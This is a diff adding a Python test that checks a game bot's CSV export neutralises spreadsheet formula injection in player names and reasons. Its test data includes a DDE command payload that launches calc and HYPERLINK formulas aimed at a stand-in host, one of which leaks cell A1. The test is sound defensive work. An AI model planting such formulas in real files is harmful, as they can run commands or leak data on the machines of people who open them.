@@ -844,3 +844,35 @@ async def test_a_stored_zone_this_host_does_not_know_falls_back_with_one_warning
     assert not [x for x in caplog.records if x.levelno >= 40], [x.getMessage() for x in caplog.records]
     r = await admin(h, "settings", timezone="Asia/Tokyo")  # and the zone can be set again
     assert "Asia/Tokyo" in r.reply.content
+
+
+HOSTILE_NAMES = ["=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", '@HYPERLINK("http://x.example","click")', "\t=1+1",
+                 "\r=1+1"]
+
+
+async def test_the_export_neutralises_spreadsheet_formulas(h: Harness):
+    """Display names and reasons starting with = + - @ (or a tab, a carriage return) were written raw, and Excel
+    and LibreOffice run them as formulas: every such text cell is written after a single quote (OWASP); the numbers
+    stay numbers, a negative amount too."""
+    players = [snowflake() for _ in HOSTILE_NAMES]
+    seats = [SeatSpec.human(p, n) for p, n in zip(players, HOSTILE_NAMES, strict=True)]
+    [hand] = await write_hands(h.bot.store, GUILD_ID, [datetime.now(UTC) - timedelta(hours=1)], 5, seats=seats[:4])
+    await write_hands(h.bot.store, GUILD_ID, [datetime.now(UTC) - timedelta(hours=2)], 6, seats=[*seats[4:], *seats[:2]])
+    reason = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+    await admin(h, "correct void", hand=hand, reason=reason)
+    await admin(h, "correct adjust", payer=B, payee=C, amount=3, reason="-1+1 side bet", variant="hefei")
+    r = await admin(h, "export")
+    [att] = r.reply.attachments
+    lines = list(csv.reader(io.StringIO(r.reply.files[att.filename].decode("utf-8-sig"), newline="")))
+    body = [dict(zip(CSV_COLUMNS, line, strict=True)) for line in lines[1:]]
+    names = {d["player_name"] for d in body if d["player_id"] in {str(p) for p in players}}
+    assert names == {"'" + n for n in HOSTILE_NAMES}
+    assert {d["reason"] for d in body if d["kind"] == "void"} == {"'" + reason}
+    assert {d["reason"] for d in body if d["kind"] == "adjust"} == {"'-1+1 side bet"}
+    for d in body:  # no text cell a spreadsheet would run
+        for k, v in d.items():
+            if k in ("amount", "stack_amount", "jiao_amount", "hand_value"):
+                assert v.lstrip("-").isdigit(), (k, v)  # numbers stay numbers
+            else:
+                assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (k, v)
+    assert any(d["amount"].startswith("-") for d in body)  # a negative amount is written as a number
